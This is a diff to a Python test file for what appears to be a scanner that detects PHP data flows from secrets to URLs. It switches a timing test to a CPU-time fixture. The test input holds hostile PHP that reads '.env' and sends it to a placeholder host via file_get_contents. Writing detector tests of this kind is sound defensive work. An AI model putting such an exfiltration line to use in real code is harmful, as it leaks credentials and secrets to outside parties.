@@ -3,7 +3,6 @@ including through a URL read (PHP's file_get_contents reads a URL like a file)."
 
 from __future__ import annotations
 
-import time
 
 import pytest
 
@@ -54,10 +53,8 @@ def test_look_alikes_have_no_flow(src):
     assert _scan(src) == []
 
 
-def test_hostile_php_is_read_quickly():
+def test_hostile_php_is_read_quickly(cpu_seconds):
     hostile = ("<?php\n" + "$a = file_get_contents('.env') . " * 5000 + "\n" + "\"" + "\\\"" * 50000 + "\n"
                + "/* " * 20000 + "\n" + "'x;" * 30000 + "\nfile_get_contents('http://x/' . $a);\n")
     assert len(hostile) < 512 * 1024
-    start = time.perf_counter()
-    flows("php", hostile)
-    assert time.perf_counter() - start < 2.0
+    assert cpu_seconds(lambda: flows("php", hostile)) < 2.0
